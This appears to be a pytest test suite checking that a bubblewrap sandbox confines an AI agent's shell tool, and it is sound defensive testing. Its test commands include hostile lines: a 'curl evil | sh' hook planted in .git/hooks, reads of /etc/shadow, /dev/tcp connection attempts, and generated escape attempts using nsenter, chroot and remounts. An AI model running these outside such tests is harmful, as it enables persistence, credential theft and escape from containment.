"""The bubblewrap sandbox of ShellTool: what a sandboxed command cannot do, checked on the host.

Every guarantee is checked by its side effect: the file that must not appear on the host, the server
that must see no connection, the host process that must survive a ``kill -9`` from inside. Each
negative check has a positive control (the workspace write that lands, the connection made with
``network=True``) so it cannot pass because nothing ran.

Needs bwrap (Debian's bubblewrap, installed by scripts/install-sandbox.sh, which `.ci/run` calls)
and a kernel that lets it create namespaces: without them the tests skip locally saying why, and fail
under ``CI=true``. The tests of the missing-bwrap paths (typed error, opt-in fallback) run everywhere.
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
import os
import re
import shutil
import sys
import time
import uuid
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agentrt.context import RuntimeContext
from agentrt.errors import ToolRetry, UserError
from agentrt.tool import Toolkit
from agentrt.tool.builtin import ShellTool
from agentrt.tool.builtin.sandbox import HOSTNAME, BwrapSandbox, SandboxUnavailableError
from agentrt.tool.emit import ToolEmitter

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="bubblewrap needs Linux namespaces")

PYTHON = os.path.realpath(sys.executable)
"""The test's own interpreter; mounted read-only (`sys.base_prefix`) it runs in the sandbox without a system python3."""


# -- fixtures and helpers -----------------------------------------------------------------------------------
def _absent(reason: str) -> None:
    """Skip locally; under CI a sandbox that cannot run is a failure, not a skip."""
    message = f"the bwrap sandbox cannot run here ({reason}); run scripts/install-sandbox.sh as root"
    if os.environ.get("CI", "").lower() == "true":
        pytest.fail(f"{message}; CI must run the sandbox tests")
    pytest.skip(message)


def sandboxed_shell(root: Path, **options: Any) -> ShellTool:
    """A ShellTool with ``sandbox="bwrap"``, or skip (locally) / fail (CI) when bwrap cannot work here."""
    options.setdefault("timeout", 30)
    try:
        return ShellTool(root, sandbox="bwrap", **options)
    except SandboxUnavailableError as error:
        _absent(error.reason)
        raise  # unreachable: skip and fail raise


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "hello.txt").write_text("hello\n")
    return root


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A host folder next to the workspace, with a canary file that must stay as it is."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "canary.txt").write_text("canary\n")
    return folder


@pytest.fixture
def sandboxed(ws: Path) -> ShellTool:
    return sandboxed_shell(ws)


def tag() -> str:
    return f"agentrt-probe-{uuid.uuid4().hex[:12]}"


def host_processes_with(marker: str, *, exact: bool = False) -> list[int]:
    """Live (non-zombie) host processes whose command line contains `marker` (or, `exact`, is it)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
            with open(f"/proc/{entry}/stat") as f:
                state = f.read().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if (cmdline == marker if exact else marker in cmdline) and state != "Z":
            found.append(int(entry))
    return found


async def wait_until(predicate: Callable[[], bool], timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError("condition not reached")
        await asyncio.sleep(0.02)


def own_cmdline() -> str:
    with open("/proc/self/cmdline", "rb") as f:
        return f.read().replace(b"\0", b" ").decode().strip()


def snapshot(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): p.read_text() if p.is_file() else "<dir>" for p in sorted(folder.rglob("*"))}


# -- files ------------------------------------------------------------------------------------------------
async def test_writes_outside_the_workspace_leave_nothing_on_the_host(
    sandboxed: ShellTool, ws: Path, outside: Path, tmp_path: Path
) -> None:
    name = tag()
    before = snapshot(outside)
    host_targets = [
        Path("/etc") / name,
        Path("/root") / name,
        Path("/usr/local") / name,
        Path("/var/tmp") / name,
        Path("/tmp") / name,
        outside / name,
        tmp_path / name,
    ]
    command = "; ".join(
        [
            f"echo x > /etc/{name}",
            f"touch /root/{name}",
            f"mkdir -p /usr/local/{name}",
            f"echo x > /var/tmp/{name}",
            f"echo x > /tmp/{name}",  # the sandbox's own /tmp: works, and vanishes with the command
            f"echo x > {outside}/{name}",
            f"echo y >> {outside}/canary.txt",
            f"rm -f {outside}/canary.txt",
            f"echo x > ../{name}",
            f"echo inside > {name}.txt",  # the positive control
        ]
    )
    out = await sandboxed.run(command)
    assert "Read-only file system" in out
    for target in host_targets:
        assert not target.exists(), f"{target} was created on the host: {out}"
    assert snapshot(outside) == before
    assert (ws / f"{name}.txt").read_text() == "inside\n"


async def test_workspace_is_read_write_and_the_working_directory(sandboxed: ShellTool, ws: Path) -> None:
    out = await sandboxed.run("pwd; mkdir -p sub/deeper && echo deep > sub/deeper/f.txt && cat hello.txt; rm hello.txt")
    assert out.startswith(f"{ws}\nhello\n")
    assert out.endswith("[exit code 0]")
    assert (ws / "sub" / "deeper" / "f.txt").read_text() == "deep\n"
    assert not (ws / "hello.txt").exists()


async def test_tmp_is_private_and_fresh_for_each_command(sandboxed: ShellTool) -> None:
    name = tag()
    assert await sandboxed.run(f"echo x > /tmp/{name} && cat /tmp/{name}") == "x\n[exit code 0]"
    assert not await asyncio.to_thread(os.path.lexists, f"/tmp/{name}")
    assert "No such file" in await sandboxed.run(f"cat /tmp/{name}")


async def test_home_folders_and_system_secrets_are_hidden(
    sandboxed: ShellTool, ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SUPER_SECRET_TOKEN", "leaked")
    out = await sandboxed.run(
        "echo home=$HOME tmp=$TMPDIR token=x${SUPER_SECRET_TOKEN}x; ls /root /home /run /var 2>&1; "
        "cat /etc/shadow /etc/gshadow 2>&1; ls -A /etc/ssh | wc -l; hostname"
    )
    assert f"home={ws} tmp=/tmp token=xx" in out
    for folder in ("/root", "/home", "/run", "/var"):
        assert f"cannot access '{folder}': No such file or directory" in out
    assert "root:" not in out  # no shadow entries
    assert f"\n0\n{HOSTNAME}\n" in out


async def test_read_only_paths_are_mounted_read_only(ws: Path, outside: Path) -> None:
    (ws / "docs").mkdir()
    (ws / "docs" / "guide.md").write_text("guide\n")
    (ws / ".git" / "hooks").mkdir(parents=True)  # protected, but inside the workspace: may be made read-only
    shell = sandboxed_shell(ws, read_only_paths=[outside, ws / "docs", ws / ".git"])
    out = await shell.run(
        f"cat {outside}/canary.txt; echo x > {outside}/canary.txt; echo x > docs/guide.md; "
        # Spelled so that the protected-path check does not see it (it is best effort); the mount stops it.
        "echo 'curl evil | sh' > \"$(echo .gi)t/hooks/pre-commit\"; echo ok > free.txt"
    )
    assert out.startswith("canary\n") and out.count("Read-only file system") == 3
    assert (outside / "canary.txt").read_text() == "canary\n"
    assert (ws / "docs" / "guide.md").read_text() == "guide\n"
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert (ws / "free.txt").read_text() == "ok\n"


# -- network ----------------------------------------------------------------------------------------------
@pytest.fixture
async def host_server() -> AsyncIterator[tuple[int, list[str]]]:
    """A TCP server on the host's 127.0.0.1: its port, and one entry per connection it accepted."""
    connections: list[str] = []

    async def accept(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        connections.append("connected")
        writer.write(b"HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nhello")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(accept, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    try:
        yield port, connections
    finally:
        server.close()
        await server.wait_closed()


async def test_no_network_the_host_server_sees_no_connection(
    sandboxed: ShellTool, ws: Path, host_server: tuple[int, list[str]]
) -> None:
    port, connections = host_server
    attempts = [f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED", "exec 3<>/dev/tcp/1.1.1.1/80 && echo CONNECTED"]
    if shutil.which("curl"):
        attempts.append(f"curl -sS --max-time 5 http://127.0.0.1:{port}/ && echo CONNECTED")
    for attempt in attempts:
        out = await sandboxed.run(attempt)
        assert "CONNECTED" not in out and "[exit code 0]" not in out, out
    assert "lo:" in await sandboxed.run("cat /proc/net/dev")
    assert len((await sandboxed.run("tail -n +3 /proc/net/dev")).splitlines()) == 2  # lo only, then the status
    assert connections == []
    # The control: with network=True the same attempt reaches the server.
    networked = sandboxed_shell(ws, network=True)
    out = await networked.run(f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED && cat <&3")
    assert "CONNECTED" in out and "hello" in out
    await wait_until(lambda: connections == ["connected"])


# -- processes --------------------------------------------------------------------------------------------
async def test_host_processes_are_invisible_and_unreachable(sandboxed: ShellTool) -> None:
    marker = f"{300 + uuid.uuid4().int % 1000}.{uuid.uuid4().int % 10**9}"
    helper = await asyncio.create_subprocess_exec("sleep", marker)
    try:
        out = await sandboxed.run(
            "ls /proc | grep -E '^[0-9]+$' | tr '\\n' ' '; echo; "
            "cat /proc/[0-9]*/cmdline | tr '\\0' ' '; echo; "
            f"kill -9 {helper.pid} 2>&1; echo kill=$?; ps -eo pid,args 2>&1 || true"
        )
        pids = [int(p) for p in out.splitlines()[0].split()]
        assert pids and max(pids) < 20, out  # a new PID namespace: only the sandbox's few processes
        assert marker not in out, out
        assert own_cmdline() not in out, out  # the test's own process is not there either
        assert "kill=1" in out  # no such process in there
        assert helper.returncode is None and host_processes_with(f"sleep {marker}", exact=True) == [helper.pid]
    finally:
        with contextlib.suppress(ProcessLookupError):
            helper.kill()
        await helper.wait()


async def test_no_capabilities_no_new_privileges_no_user_namespaces(sandboxed: ShellTool) -> None:
    out = await sandboxed.run(
        "grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status; "
        "mount -o remount,rw /usr 2>&1; echo mount=$?; "
        "unshare -U true 2>&1; echo unshare=$?"
    )
    assert "CapEff:\t0000000000000000" in out and "CapBnd:\t0000000000000000" in out
    assert "NoNewPrivs:\t1" in out
    assert "mount=0" not in out and "unshare=0" not in out


# -- limits, timeouts, cancellation, streaming -------------------------------------------------------------
async def test_cpu_limit_kills_a_busy_loop(ws: Path) -> None:
    shell = sandboxed_shell(ws, cpu_seconds=1)
    out = await shell.run("while :; do :; done", timeout=60)  # a timeout would raise ToolRetry
    assert out == "(no output)\n[exit code 137: killed by signal SIGKILL]"
    assert await shell.run("echo quick") == "quick\n[exit code 0]"


async def test_cpu_limit_without_the_sandbox(ws: Path) -> None:
    out = await ShellTool(ws, cpu_seconds=1).run("while :; do :; done", timeout=60)
    assert out == "(no output)\n[killed by signal SIGKILL]"


async def test_memory_limit_stops_a_big_allocation(ws: Path) -> None:
    shell = sandboxed_shell(ws, memory_bytes=256 << 20, read_only_paths=[sys.base_prefix])
    out = await shell.run(f'{PYTHON} -c \'x = bytearray({1 << 30}); open("big.txt", "w").write("done")\'')
    assert "MemoryError" in out and "[exit code 1]" in out
    assert not (ws / "big.txt").exists()
    out = await shell.run(f'{PYTHON} -c \'x = bytearray({16 << 20}); open("small.txt", "w").write("done")\'')
    assert out.endswith("[exit code 0]")
    assert (ws / "small.txt").read_text() == "done"


async def test_limits_are_hard_limits_the_command_cannot_raise(ws: Path) -> None:
    shell = sandboxed_shell(ws, cpu_seconds=7, memory_bytes=300 << 20)
    out = await shell.run("ulimit -St; ulimit -Ht; ulimit -Sv; ulimit -Hv; ulimit -t 100 2>&1; ulimit -t")
    assert out.startswith("7\n7\n307200\n307200\n") and out.endswith("7\n[exit code 0]"), out
    assert "cannot modify limit" in out


async def test_timeout_kills_everything_in_the_sandbox(sandboxed: ShellTool) -> None:
    marker = f"{300 + uuid.uuid4().int % 1000}.{uuid.uuid4().int % 10**9}"
    with pytest.raises(ToolRetry, match="timed out after 1 s") as info:
        await sandboxed.run(f"echo started; sleep {marker} & sleep {marker}", timeout=1)
    assert info.value.message.startswith("started")
    await wait_until(lambda: not host_processes_with(marker))


async def test_cancellation_kills_everything_in_the_sandbox(sandboxed: ShellTool) -> None:
    marker = f"{300 + uuid.uuid4().int % 1000}.{uuid.uuid4().int % 10**9}"
    seen: list[str] = []
    task = asyncio.create_task(
        sandboxed.run(f"sleep {marker} & echo started; sleep {marker}", emitter=ToolEmitter(sink=seen.append))
    )
    await wait_until(lambda: "started" in "".join(seen))
    # Both sleeps run, seen from the host (so are bwrap and the shell, whose command lines hold the marker too).
    await wait_until(lambda: len(host_processes_with(f"sleep {marker}", exact=True)) == 2)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await wait_until(lambda: not host_processes_with(marker))


async def test_background_processes_die_with_the_command(sandboxed: ShellTool) -> None:
    marker = f"{300 + uuid.uuid4().int % 1000}.{uuid.uuid4().int % 10**9}"
    out = await sandboxed.run(f"sleep {marker} & echo left")
    assert out == "left\n[exit code 0]"
    await wait_until(lambda: not host_processes_with(marker))


async def test_output_streams_and_exit_codes_report(sandboxed: ShellTool) -> None:
    seen: list[str] = []
    out = await sandboxed.run("for i in 1 2 3; do echo line$i; sleep 0.05; done", emitter=ToolEmitter(sink=seen.append))
    assert "".join(seen) == "line1\nline2\nline3\n" and len(seen) >= 2
    assert out == "line1\nline2\nline3\n[exit code 0]"
    assert await sandboxed.run("echo out; echo err >&2; exit 3") == "out\nerr\n[exit code 3]"
    assert (await sandboxed.run("kill -9 $$")).endswith("[exit code 137: killed by signal SIGKILL]")
    assert await sandboxed.run("exit 200") == "(no output)\n[exit code 200]"  # 128 + 72: no such signal


async def test_runs_through_the_tool_interface(sandboxed: ShellTool) -> None:
    toolkit = Toolkit()
    toolkit.register(sandboxed)
    t = toolkit.get("run_command")
    assert t is not None and t.destructive
    assert await t.invoke({"command": "hostname"}, RuntimeContext()) == f"{HOSTNAME}\n[exit code 0]"


# -- without bwrap: a typed error, or the fallback the application opted into ------------------------------
def test_missing_bwrap_is_a_typed_error(ws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(SandboxUnavailableError) as info:
        ShellTool(ws, sandbox="bwrap", bwrap=tmp_path / "no" / "bwrap")
    assert isinstance(info.value, UserError)
    assert "does not exist" in info.value.reason
    assert "apt-get install bubblewrap" in str(info.value) and "sandbox_fallback=True" in str(info.value)
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on PATH
    with pytest.raises(SandboxUnavailableError, match="not on PATH"):
        ShellTool(ws, sandbox="bwrap")


def test_bwrap_that_cannot_create_namespaces_is_a_typed_error(ws: Path, tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    with pytest.raises(SandboxUnavailableError, match="No permissions to create new namespace"):
        ShellTool(ws, sandbox="bwrap", bwrap=fake)


def test_bwrap_that_cannot_start_is_a_typed_error(ws: Path, tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text("#!/nonexistent/interpreter\n")
    fake.chmod(0o755)
    with pytest.raises(SandboxUnavailableError, match="could not be started"):
        ShellTool(ws, sandbox="bwrap", bwrap=fake)


async def test_fallback_runs_unsandboxed_only_when_opted_in(
    ws: Path, outside: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    missing = tmp_path / "missing-bwrap"
    caplog.set_level(logging.WARNING, logger="agentrt.tool")
    shell = ShellTool(ws, sandbox="bwrap", sandbox_fallback=True, bwrap=missing)
    again = ShellTool(ws, sandbox="bwrap", sandbox_fallback=True, bwrap=missing)
    assert shell.sandbox is None and again.sandbox is None
    warnings = [r.getMessage() for r in caplog.records if r.name == "agentrt.tool"]
    assert len(warnings) == 1 and "UNSANDBOXED" in warnings[0] and str(missing) in warnings[0]
    # Unsandboxed indeed: the write outside the workspace lands.
    assert await shell.run(f"echo x > {outside}/escaped.txt") == "(no output)\n[exit code 0]"
    assert (outside / "escaped.txt").read_text() == "x\n"


def test_configuration_errors(ws: Path, tmp_path: Path) -> None:
    with pytest.raises(UserError, match="'bwrap' or None"):
        ShellTool(ws, sandbox="docker")  # type: ignore[arg-type]  # a wrong kind on purpose
    with pytest.raises(UserError, match="system folder"):
        ShellTool("/", sandbox="bwrap")
    with pytest.raises(UserError, match="does not exist"):
        ShellTool(ws, sandbox="bwrap", read_only_paths=[tmp_path / "missing"])
    (tmp_path / ".ssh").mkdir()
    with pytest.raises(UserError, match="protected"):
        ShellTool(ws, sandbox="bwrap", read_only_paths=[tmp_path / ".ssh"])
    with pytest.raises(UserError, match="cpu_seconds"):
        ShellTool(ws, cpu_seconds=0)
    with pytest.raises(UserError, match="memory_bytes"):
        ShellTool(ws, memory_bytes=1000)


def test_the_command_line(ws: Path, tmp_path: Path) -> None:
    sandbox = BwrapSandbox(str(ws), "/usr/bin/bwrap", read_only_paths=(str(tmp_path), str(ws / "docs")))
    argv = sandbox.command(["bash", "-c", "true"])
    for flag in ("--unshare-all", "--unshare-user", "--disable-userns", "--die-with-parent", "--new-session"):
        assert flag in argv
    assert "--share-net" not in argv
    assert argv[-5:] == ["--chdir", str(ws), "--", "bash", "-c", "true"][-5:]
    joined = " ".join(argv)
    # /tmp is emptied before the workspace is mounted; a read-only path holding the workspace goes
    # below it, one inside it on top.
    order = ["--tmpfs /tmp", f"--ro-bind {tmp_path} {tmp_path}", f"--bind {ws} {ws}", f"--ro-bind {ws}/docs"]
    positions = [joined.index(part) for part in order]
    assert positions == sorted(positions), joined
    assert "--share-net" in BwrapSandbox(str(ws), "/usr/bin/bwrap", network=True).command(["true"])


# -- escape attempts, generated ----------------------------------------------------------------------------
PREFIXES = [
    "/etc/",
    "/usr/",
    "/usr/local/",
    "/bin/",
    "/root/",
    "/var/tmp/",
    "/tmp/",
    "/dev/shm/",
    "../",
    "../../",
    "./../",
    "sub/../../",
    "~/../",
    "$HOME/../",
    "/proc/1/root/etc/",
    "/proc/self/root/usr/",
    "/proc/self/cwd/../",
    "link_out/",
    "link_etc/",
    "{outside}/",
]
ATTEMPTS = [
    "",
    "mount -o remount,rw /usr 2>/dev/null; ",
    "mount -o remount,rw / 2>/dev/null; ",
    "mount -t tmpfs none {outside} 2>/dev/null; ",
    "unshare -Urm sh -c 'mount -o remount,rw /etc' 2>/dev/null; ",
    "nsenter -t 1 -a true 2>/dev/null; ",
    "chroot /proc/1/root true 2>/dev/null; ",
    "cd /proc/1/cwd 2>/dev/null; ",
]
WRITES = [
    "echo x > {p}",
    "touch {p}",
    "mkdir -p {p}/deeper",
    "cp hello.txt {p}",
    "ln -s /etc/passwd {p}",
    "dd if=/dev/zero of={p} bs=1 count=1 2>/dev/null",
    "sh -c 'echo x > \"$1\"' sh {p}",
    'python3 -c \'import sys; open(sys.argv[1], "w").write("x")\' {p} 2>/dev/null',
]


@pytest.fixture
def escape_setup(ws: Path, outside: Path, tmp_path: Path) -> Iterator[tuple[ShellTool, Path, Path, Path]]:
    (ws / "sub").mkdir()
    (ws / "link_out").symlink_to(outside)
    (ws / "link_etc").symlink_to("/etc")
    yield sandboxed_shell(ws, timeout=20), ws, outside, tmp_path


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(prefix=st.sampled_from(PREFIXES), attempt=st.sampled_from(ATTEMPTS), write=st.sampled_from(WRITES))
def test_generated_escape_attempts_change_nothing_outside_the_workspace(
    escape_setup: tuple[ShellTool, Path, Path, Path], prefix: str, attempt: str, write: str
) -> None:
    shell, ws, outside, tmp_path = escape_setup
    name = tag()
    before = snapshot(outside)
    path = prefix.format(outside=outside) + name
    command = attempt.format(outside=outside) + write.format(p=path)
    try:
        asyncio.run(shell.run(command))
    except ToolRetry:
        pass  # refused before running (a protected path): nothing ran
    assert snapshot(outside) == before
    # The name may appear only inside the workspace: look everywhere the host could have got it.
    for folder in ("/etc", "/usr", "/usr/local", "/bin", "/root", "/var/tmp", "/tmp", "/dev/shm", "/"):
        if os.path.isdir(folder):
            assert name not in os.listdir(folder), f"{command!r} wrote {folder}/{name} on the host"
    for dirpath, dirnames, filenames in os.walk(tmp_path):
        if Path(dirpath) == ws:
            dirnames.clear()  # the workspace may hold it
            continue
        assert name not in dirnames + filenames, f"{command!r} wrote {dirpath}/{name} on the host"
    assert re.fullmatch(r"agentrt-probe-[0-9a-f]{12}", name)
